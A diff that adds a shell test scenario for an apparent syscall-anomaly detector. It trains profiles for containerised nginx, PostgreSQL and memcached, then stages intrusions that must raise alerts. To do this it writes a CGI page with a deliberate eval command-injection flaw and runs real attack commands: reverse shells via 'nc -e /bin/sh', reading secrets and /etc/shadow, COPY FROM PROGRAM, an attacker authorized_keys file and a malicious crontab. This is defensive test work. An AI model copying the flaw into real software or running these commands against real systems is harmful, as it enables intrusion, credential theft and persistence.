@@ -1,0 +1,423 @@
+#!/bin/sh
+# Real services from Debian's packages, each in its own runc container (its
+# own cgroup), driven by their real clients from outside the containers'
+# cgroups (in each container's network namespace only):
+#   web    nginx + fcgiwrap + a shell CGI search page with a command-injection
+#          flaw (the page hands the query to the shell); client wrk (the
+#          attacker's is curl)
+#   pg     PostgreSQL 15; client pgbench
+#   cache  memcached; client memcaslap (libmemcached-tools' memaslap)
+#   side   a quiet busybox sidecar: sleeps, children, signals to itself
+# Each is trained with plain 'sysanomctl train --until-stable NAME' (no other
+# option, no 'sysanomctl set') until its mode is enforcing; then it works as
+# usual for at least as long as its training took with no alert; then
+# intrusions of the kinds attackers use must each raise an alert in their
+# container only, and the sidecar never alerts. Each step says which
+# service failed and why; a service that does not converge in TRAIN_MAX fails
+# the scenario, which then goes on with a forced 'enforce' for diagnosis only.
+# A SUMMARY of the measurements ends the output.
+# Not in 'make check' yet: PostgreSQL under pgbench never converges (its
+# data-dependent I/O and lock waits keep making new windows), and the quiet
+# sidecar needs more windows than it makes in minutes. Run it by hand:
+#   tests/vm/run-guest.sh --kernel debian --scenario tests/scenarios/40-services.sh
+# kernels: none
+# needs: services
+# timeout: 1500
+# shellcheck disable=SC2016 # '$' in single quotes is for the inner shells
+# shellcheck source-path=SCRIPTDIR source=../vm/guest-lib.sh
+. /lib/sysanom/guest-lib.sh
+
+[ "$HAVE_SERVICES" = 1 ] || fail "the initramfs has no services (run-guest.sh adds them for '# needs: services')"
+
+PG=/usr/lib/postgresql/15/bin
+TRAIN_MAX=420	# seconds all four may take to converge, trained in parallel
+WEB_PORT=8080 PG_PORT=5432 MC_PORT=11211 RSH_PORT=4444
+SERVICES="web pg cache side"
+T0=$(date +%s)
+elapsed() { echo $(($(date +%s) - T0)); }
+problems="" summary=""
+# One line of the summary printed at the end.
+result() { summary="$summary
+  $*"; }
+problem() { echo "PROBLEM: $*"; problems="$problems
+  $*"; }
+
+# --- containers --------------------------------------------------------------
+# A copy of /bundle-svc for container $1 in cgroup /svc-$1, running as uid
+# $2, gid $3, with its own writable copy of the guest's /etc. Prints the
+# bundle directory; the caller writes rootfs/workload.sh.
+svc_bundle() {
+	b=/tmp/bundle-$1
+	rm -rf "$b"
+	cp -a /bundle-svc "$b" || return 1
+	cp -a /etc/. "$b/rootfs/etc/" || return 1
+	sed -i -e "s|@CGROUP@|/svc-$1|" -e "s|\"@UID@\"|$2|" -e "s|\"@GID@\"|$3|" "$b/config.json"
+	echo "$b"
+}
+svc_start() {
+	runc run --no-pivot -d --bundle "/tmp/bundle-$1" "$1" < /dev/null > "/tmp/$1.out" 2>&1 ||
+		fail "$1: runc run failed: $(cat "/tmp/$1.out")"
+}
+ct_pid() { runc state "$1" 2>/dev/null | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p'; }
+# Run a client in container $1's network namespace (not in its cgroup).
+in_net() {
+	_c=$1; shift
+	nsenter --net="/proc/$(ct_pid "$_c")/ns/net" "$@"
+}
+# Wait up to $1 seconds for command $2... to succeed.
+wait_for() {
+	_n=$1; shift
+	_i=0
+	until "$@" > /dev/null 2>&1; do
+		_i=$((_i + 1))
+		[ "$_i" -lt "$_n" ] || return 1
+		sleep 1
+	done
+}
+alerts_of() { status_entry "/svc-$1" | json_num alerts; }
+last_seq() { sysanomctl alerts --json | tail -n1 | json_num seq; }
+
+load_module
+
+# web: nginx serves static pages and hands /cgi-bin/ to fcgiwrap, which runs
+# the search page; everything as www-data (uid 33), as in a rootless image.
+b=$(svc_bundle web 33 33) || fail "web: no bundle"
+r=$b/rootfs
+mkdir -p "$r/var/www/html" "$r/var/www/cgi-bin" "$r/var/www/data" "$r/var/lib/nginx" \
+	"$r/var/log/nginx" "$r/etc/webapp"
+printf 'apple pie\nbanana bread\ncherry tart\nplum cake\nlemon curd\n' > "$r/var/www/data/recipes.txt"
+echo '<h1>recipes</h1><form action="/cgi-bin/search">' > "$r/var/www/html/index.html"
+echo 'body { font-family: serif; }' > "$r/var/www/html/style.css"
+# The application's secret: the kind of file a web shell reads first.
+echo 'DB_PASSWORD=s3cr3t-web-app-password' > "$r/etc/webapp/secret.conf"
+echo 'root:$6$rootsecret$hash:19000:0:99999:7:::' > "$r/etc/shadow"
+chmod 0600 "$r/etc/shadow"
+cat > "$r/var/www/cgi-bin/search" <<'CGI'
+#!/bin/sh
+# Recipe search. The flaw: the decoded query goes through eval.
+echo "Content-Type: text/plain"
+echo
+q=$(printf '%s' "${QUERY_STRING#q=}" | sed 's/+/ /g; s/%\([0-9A-Fa-f][0-9A-Fa-f]\)/\\x\1/g')
+q=$(printf '%b' "$q")
+eval "grep -i $q /var/www/data/recipes.txt"
+CGI
+chmod 0755 "$r/var/www/cgi-bin/search"
+cat > "$r/etc/nginx/nginx.conf" <<NGINX
+worker_processes 1;
+pid /run/nginx.pid;
+error_log /var/log/nginx/error.log;
+events { worker_connections 64; }
+http {
+	include /etc/nginx/mime.types;
+	access_log /var/log/nginx/access.log;
+	server {
+		listen 127.0.0.1:$WEB_PORT;
+		root /var/www/html;
+		location /cgi-bin/ {
+			include /etc/nginx/fastcgi_params;
+			fastcgi_param SCRIPT_FILENAME /var/www\$fastcgi_script_name;
+			fastcgi_pass unix:/run/fcgiwrap.sock;
+		}
+	}
+}
+NGINX
+chown -R 33:33 "$r/var/www" "$r/var/lib/nginx" "$r/var/log/nginx" "$r/run" "$r/etc/webapp"
+cat > "$r/workload.sh" <<'W'
+/usr/sbin/fcgiwrap -c 2 -s unix:/run/fcgiwrap.sock &
+exec /usr/sbin/nginx -g 'daemon off;'
+W
+svc_start web
+
+# pg: initdb at the first start, then the server, as postgres (uid 101).
+# Checkpoints and autovacuum run every minute (not 5): periodic work must
+# occur during training for the profile to know it.
+b=$(svc_bundle pg 101 101) || fail "pg: no bundle"
+r=$b/rootfs
+mkdir -p "$r/var/lib/postgresql" "$r/run/postgresql"
+chown -R 101:101 "$r/var/lib/postgresql" "$r/run/postgresql"
+cat > "$r/workload.sh" <<W
+export TZ=UTC LANG=C
+D=/var/lib/postgresql/15/main
+if [ ! -f \$D/PG_VERSION ]; then
+	$PG/initdb -D \$D -U postgres --auth=trust -E UTF8 --locale=C --no-sync > /tmp/initdb.log 2>&1 ||
+		{ cat /tmp/initdb.log; exit 1; }
+fi
+exec $PG/postgres -D \$D -c listen_addresses=127.0.0.1 -c port=$PG_PORT \\
+	-c unix_socket_directories=/run/postgresql -c shared_buffers=16MB -c max_connections=20 \\
+	-c fsync=off -c synchronous_commit=off -c full_page_writes=off -c jit=off \\
+	-c checkpoint_timeout=60s -c autovacuum_naptime=60s -c log_min_messages=warning
+W
+svc_start pg
+
+# cache: memcached as memcache (uid 102).
+b=$(svc_bundle cache 102 102) || fail "cache: no bundle"
+r=$b/rootfs
+echo 'root:$6$cachesecret$hash:19000:0:99999:7:::' > "$r/etc/shadow"
+chmod 0600 "$r/etc/shadow"
+echo "exec /usr/bin/memcached -l 127.0.0.1 -p $MC_PORT -U 0 -m 32 -t 2 -c 256" > "$r/workload.sh"
+svc_start cache
+
+# side: the quiet sidecar, busybox only (the /bundle template).
+ln -sf busybox /bundle/rootfs/bin/kill
+run start_container side svc-side 'n=0
+trap "n=\$((n + 1))" USR1
+while :; do sleep 1 & wait; kill -USR1 $$; echo "$n" > /tmp/beat; done'
+
+# --- the services answer their clients -----------------------------------------
+web_get() { in_net web curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT$1"; }
+pg_sql() { in_net pg "$PG/psql" -h 127.0.0.1 -p "$PG_PORT" -U postgres -d postgres -XAtq -c "$1"; }
+# shellcheck disable=SC2317 # called through wait_for
+web_ok() { web_get '/cgi-bin/search?q=apple' | grep -q 'apple pie'; }
+wait_for 60 web_ok ||
+	fail "web: the search page does not answer: $(web_get '/cgi-bin/search?q=apple' 2>&1; tail -n 5 /tmp/bundle-web/rootfs/var/log/nginx/error.log; cat /tmp/web.out)"
+note "web: search page answers ($(elapsed)s)"
+wait_for 60 in_net cache memcstat --servers="127.0.0.1:$MC_PORT" ||
+	fail "cache: memcached does not answer: $(cat /tmp/cache.out)"
+note "cache: memcached answers ($(elapsed)s)"
+wait_for 300 pg_sql 'select 1' ||
+	fail "pg: PostgreSQL does not answer: $(pg_sql 'select 1' 2>&1; cat /tmp/pg.out; tail -n 20 /tmp/bundle-pg/rootfs/tmp/initdb.log 2> /dev/null)"
+note "pg: PostgreSQL answers ($(elapsed)s)"
+in_net pg "$PG/pgbench" -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres > /tmp/pgbench-init.log 2>&1 ||
+	fail "pg: pgbench -i failed: $(tail -n 5 /tmp/pgbench-init.log)"
+note "pg: pgbench tables ready ($(elapsed)s)"
+note "versions: $(/usr/sbin/nginx -v 2>&1 | sed 's/.*: //'), fcgiwrap, $("$PG/postgres" -V), $(/usr/bin/memcached -V), $(curl -V | head -n1 | cut -d' ' -f1-2)"
+
+# --- clients: ordinary work, from now to the end --------------------------------
+# Each loop counts its rounds in /tmp/NAME.rounds; a round's failure is
+# counted in /tmp/NAME.errors.
+# wrk keeps one connection open and walks the site's pages in turn.
+cat > /tmp/web.lua <<'LUA'
+local paths = { "/", "/style.css", "/cgi-bin/search?q=apple", "/cgi-bin/search?q=cake",
+	"/cgi-bin/search?q=lemon+curd", "/nothing-here" }
+local i = 0
+request = function()
+	i = i % #paths + 1
+	return wrk.format("GET", paths[i])
+end
+LUA
+cat > /tmp/client-web.sh <<C
+i=0 e=0
+while :; do
+	wrk -t 1 -c 1 -d 20s --timeout 60s -s /tmp/web.lua http://127.0.0.1:$WEB_PORT/ > /tmp/wrk.log 2>&1 || e=\$((e + 1))
+	i=\$((i + 1)); echo \$i > /tmp/web.rounds; echo \$e > /tmp/web.errors
+	sed -n 's/^ *\([0-9]*\) requests in .*/\1/p' /tmp/wrk.log >> /tmp/web.reqs
+done
+C
+cat > /tmp/client-pg.sh <<C
+i=0 e=0
+while :; do
+	$PG/pgbench -h 127.0.0.1 -p $PG_PORT -U postgres -n -c 2 -j 1 -T 20 postgres > /tmp/pgbench.log 2>&1 || e=\$((e + 1))
+	i=\$((i + 1)); echo \$i > /tmp/pg.rounds; echo \$e > /tmp/pg.errors
+	sed -n 's/^number of transactions actually processed: \([0-9]*\).*/\1/p' /tmp/pgbench.log >> /tmp/pg.xacts
+done
+C
+cat > /tmp/client-cache.sh <<C
+i=0 e=0
+while :; do
+	memcaslap -s 127.0.0.1:$MC_PORT -T 1 -c 4 -t 20s > /tmp/memcaslap.log 2>&1 || e=\$((e + 1))
+	i=\$((i + 1)); echo \$i > /tmp/cache.rounds; echo \$e > /tmp/cache.errors
+	sed -n 's/^Run time: .* Ops: \([0-9]*\).*/\1/p' /tmp/memcaslap.log >> /tmp/cache.ops
+done
+C
+clients=""
+for s in web pg cache; do
+	in_net "$s" sh "/tmp/client-$s.sh" > /dev/null 2>&1 &
+	clients="$clients $!"
+done
+# shellcheck disable=SC2086 # a list of pids
+trap 'kill $clients 2> /dev/null' EXIT
+sum() { [ -f "$1" ] && awk '{ s += $1 } END { print s + 0 }' "$1" || echo 0; }
+work_done() {
+	echo "web $(sum /tmp/web.reqs) requests ($(cat /tmp/web.errors 2> /dev/null || echo 0) runs failed)," \
+		"pg $(sum /tmp/pg.xacts) transactions ($(cat /tmp/pg.errors 2> /dev/null || echo 0) runs failed)," \
+		"cache $(sum /tmp/cache.ops) ops ($(cat /tmp/cache.errors 2> /dev/null || echo 0) runs failed)"
+}
+sleep 5
+
+# --- training, all in parallel ----------------------------------------------------
+# Plain 'train --until-stable': the module alone decides when each is done.
+for s in $SERVICES; do run sysanomctl train --until-stable "$s"; done
+tt=$(date +%s)
+pending=$SERVICES
+tmax=0 next=0 forced=""
+while [ -n "$pending" ]; do
+	now=$(($(date +%s) - tt))
+	still=""
+	for s in $pending; do
+		e=$(status_entry "/svc-$s")
+		if echo "$e" | grep -q '"mode":"enforcing"'; then
+			eval "train_$s=$now"
+			tmax=$now
+			note "$s: enforcing after ${now}s of training, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries)"
+			cal=$(eval "echo \${cal_$s:-}")
+			# (the thresholds, when the module reports what it learnt)
+			result "$s: trained until enforcing in ${now}s${cal:+ (calibrating from ${cal}s)}, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries), syscalls $(echo "$e" | json_num syscalls) $(echo "$e" | tr ',' '\n' | grep -E '^"(calibration|lfc_threshold|epoch_threshold|combo_threshold)":' | tr -d '"' | tr '\n' ' ')"
+		else
+			# The module may calibrate its thresholds between the two.
+			cal=$(eval "echo \${cal_$s:-}")
+			if [ -z "$cal" ] && echo "$e" | grep -q '"mode":"calibrating"'; then
+				eval "cal_$s=$now"
+				note "$s: calibrating after ${now}s of training, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries)"
+			fi
+			still="$still $s"
+		fi
+	done
+	pending=$still
+	[ -z "$pending" ] && break
+	if [ "$now" -ge "$TRAIN_MAX" ]; then
+		run sysanomctl status
+		for s in $pending; do
+			note "$s: $(status_entry "/svc-$s")"
+			e=$(status_entry "/svc-$s")
+			result "$s: NOT converged in ${TRAIN_MAX}s, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries), syscalls $(echo "$e" | json_num syscalls), slope $(echo "$e" | sed -n 's/.*"growth_slope":\([0-9.]*\).*/\1/p')"
+			problem "$s: did not converge in ${TRAIN_MAX}s (still $(status_entry "/svc-$s" | sed -n 's/.*"mode":"\([a-z]*\)".*/\1/p'))"
+		done
+		# The scenario has failed; go on with the profiles as they are (a
+		# forced 'enforce', for diagnosis only) to show what they detect.
+		for s in $pending; do run sysanomctl enforce "$s"; done
+		forced=$pending
+		tmax=$now
+		break
+	fi
+	if [ "$now" -ge "$next" ]; then
+		note "${now}s: $(work_done)"
+		for s in $pending; do
+			note "  $s training: $(status_entry "/svc-$s" | tr ',' '\n' | grep -E '"(syscalls|windows|profile_entries|growth_slope)"' | tr '\n' ' ')"
+		done
+		next=$((next + 30))
+	fi
+	sleep 3
+done
+run sysanomctl status
+
+# --- ordinary work while enforcing: no alert ----------------------------------
+# Each service has been enforcing for (now - tt - train_s); go on until all
+# have worked at least as long as their training took.
+wait_s=$((tt + 2 * tmax - $(date +%s)))
+if [ -n "$forced" ]; then
+	# Diagnosis only: keep within the time budget.
+	wait_s=120
+	note "NOT CONVERGED:$forced; forced to enforce for diagnosis: what follows does not count as a pass"
+fi
+note "all enforcing after ${tmax}s; ordinary work for ${wait_s}s more ($(work_done))"
+[ "$wait_s" -le 0 ] || sleep "$wait_s"
+note "ordinary work done: $(work_done)"
+note "guest memory (MiB): $(free -m | awk '/^Mem:/ { print "total " $2 ", used " $3 ", free " $4 }')"
+for s in web pg cache; do
+	kill -0 "$(ct_pid "$s")" 2> /dev/null || fail "$s: the container died: $(cat "/tmp/$s.out")"
+done
+web_get '/cgi-bin/search?q=cherry' | grep -q 'cherry tart' || fail "web: the search page stopped answering"
+[ "$(pg_sql 'select count(*) from pgbench_accounts')" = 100000 ] || fail "pg: PostgreSQL stopped answering"
+[ "$(sum /tmp/web.reqs)" -gt 0 ] || fail "web: wrk made no request: $(tail -n 5 /tmp/wrk.log)"
+[ "$(sum /tmp/pg.xacts)" -gt 0 ] || fail "pg: pgbench processed no transaction: $(tail -n 5 /tmp/pgbench.log)"
+[ "$(sum /tmp/cache.ops)" -gt 0 ] || fail "cache: memcaslap ran no operation: $(tail -n 5 /tmp/memcaslap.log)"
+for s in $SERVICES; do
+	a=$(alerts_of "$s")
+	result "$s: $a alert(s) in ordinary work"
+	if [ "$a" != 0 ]; then
+		sysanomctl alerts | grep "/svc-$s " | tail -n 3
+		problem "$s raised $a alert(s) while doing its ordinary work"
+	fi
+done
+
+# --- intrusions -----------------------------------------------------------------------
+# intrusion VICTIM WHAT: the caller has just run it; at least one new alert
+# must name VICTIM's cgroup, and no other container may have new alerts.
+snapshot() {
+	seq0=$(last_seq); seq0=${seq0:-0}
+	for s in $SERVICES; do eval "before_$s=$(alerts_of "$s")"; done
+}
+judge() {
+	sleep 2
+	v=$1 what=$2
+	eval "b=\$before_$v"
+	a=$(alerts_of "$v")
+	note "$v: $what: alerts $b -> $a"
+	if [ "$a" -gt "$b" ]; then
+		result "$v: $what: DETECTED ($((a - b)) alert(s))"
+	else
+		result "$v: $what: not detected"
+		problem "$v: $what raised no alert"
+	fi
+	for s in $SERVICES; do
+		[ "$s" = "$v" ] && continue
+		eval "b=\$before_$s"
+		a=$(alerts_of "$s")
+		[ "$a" = "$b" ] || problem "$s: $a - $b alert(s) during $v's $what (not its intrusion)"
+	done
+	sysanomctl alerts --json | awk -v s="$seq0" -F'"seq":' '{ split($2, f, ","); if (f[1] + 0 > s) print }' > /tmp/new-alerts
+	if grep -v "\"cgroup\":\"/svc-$v\"" /tmp/new-alerts | grep -q .; then
+		problem "$v: $what: an alert names another cgroup: $(grep -v "\"cgroup\":\"/svc-$v\"" /tmp/new-alerts | head -n 1)"
+	fi
+	[ -s /tmp/new-alerts ] && note "  first: $(head -n 1 /tmp/new-alerts | cut -c1-200)"
+}
+# The attacker's side of a request to the search page: curl encodes the
+# query; '#' comments out the file name the page appends.
+inject() { in_net web curl -sS --max-time 60 -G --data-urlencode "q=$1" "http://127.0.0.1:$WEB_PORT/cgi-bin/search"; }
+
+snapshot
+inject 'x /dev/null; id #' > /tmp/i.out 2>&1
+grep -q 'uid=33' /tmp/i.out || fail "web: the command injection did not run id: $(head -c 300 /tmp/i.out)"
+judge web "command injected through the CGI page (id)"
+
+snapshot
+inject 'x /dev/null; cat /etc/webapp/secret.conf #' > /tmp/i.out 2>&1
+grep -q 's3cr3t-web-app-password' /tmp/i.out || fail "web: the secret read did not return the secret: $(head -c 300 /tmp/i.out)"
+judge web "secret read through the CGI page"
+
+snapshot
+# The attacker listens (outside the container, in its network namespace) and
+# sends commands to the shell that connects back.
+(printf 'id\nexit\n'; sleep 8) | in_net web nc -l -p "$RSH_PORT" > /tmp/rsh.out 2>&1 &
+lpid=$!
+sleep 1
+inject "x /dev/null; nc 127.0.0.1 $RSH_PORT -e /bin/sh #" > /tmp/i.out 2>&1
+wait "$lpid"
+grep -q 'uid=33' /tmp/rsh.out || fail "web: the reverse shell did not connect back: $(head -c 300 /tmp/rsh.out) $(head -c 300 /tmp/i.out)"
+judge web "reverse shell (nc -e /bin/sh to a listener)"
+
+snapshot
+# (busybox runs as the applet its file's name says, or as 'busybox APPLET')
+inject 'x /dev/null; mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox; chmod 755 /tmp/.x/busybox; /tmp/.x/busybox uname -a #' > /tmp/i.out 2>&1
+{ grep -q Linux /tmp/i.out && [ -x /tmp/bundle-web/rootfs/tmp/.x/busybox ]; } ||
+	fail "web: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
+judge web "binary dropped in /tmp and run"
+
+snapshot
+pg_sql "create table cmd(line text); copy cmd from program 'id'; select line from cmd" > /tmp/i.out 2>&1
+grep -q 'uid=101' /tmp/i.out || fail "pg: COPY FROM PROGRAM did not run id: $(head -c 300 /tmp/i.out)"
+judge pg "code run by the server (COPY FROM PROGRAM 'id')"
+
+snapshot
+pg_sql "copy (select 'ssh-ed25519 AAAAC3Nza attacker') to '/tmp/.authorized_keys'" > /tmp/i.out 2>&1
+grep -q attacker /tmp/bundle-pg/rootfs/tmp/.authorized_keys 2> /dev/null ||
+	fail "pg: COPY TO did not write the file: $(head -c 300 /tmp/i.out)"
+judge pg "file written by the server (COPY TO '/tmp/.authorized_keys')"
+
+snapshot
+runc exec --user 0:0 cache sh -c 'cat /etc/shadow' > /tmp/i.out 2>&1
+grep -q 'cachesecret' /tmp/i.out || fail "cache: the attacker's shell did not read /etc/shadow: $(head -c 300 /tmp/i.out)"
+judge cache "attacker's shell (runc exec) reads /etc/shadow"
+
+snapshot
+runc exec --user 0:0 cache sh -c 'mkdir /var/tmp/.m && cp /bin/busybox /var/tmp/.m/busybox && chmod 755 /var/tmp/.m/busybox && /var/tmp/.m/busybox id && echo "* * * * * root /var/tmp/.m/busybox nc 10.0.0.1 4444 -e /bin/sh" > /etc/crontab' > /tmp/i.out 2>&1
+{ grep -q 'uid=0' /tmp/i.out && grep -q '/var/tmp/.m' /tmp/bundle-cache/rootfs/etc/crontab 2> /dev/null; } ||
+	fail "cache: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
+judge cache "binary dropped and run, crontab written"
+
+a=$(alerts_of side)
+[ "$a" = 0 ] || problem "side: the sidecar raised $a alert(s)"
+note "work done: $(work_done)"
+run sysanomctl status
+sysanomctl alerts | tail -n 12
+
+# shellcheck disable=SC2086 # a list of pids
+kill $clients 2> /dev/null
+for s in web pg cache side; do stop_container "$s"; done
+# The later scenarios get their memory back (the database is ~50 MB of tmpfs).
+rm -rf /tmp/bundle-web /tmp/bundle-pg /tmp/bundle-cache /tmp/bundle-side
+run rmmod sysanom
+note "total $(elapsed)s"
+echo "SUMMARY (scenario time $(elapsed)s):$summary"
+[ -z "$problems" ] || fail "$(echo "$problems" | grep -c .) problem(s):$problems"
+exit 0
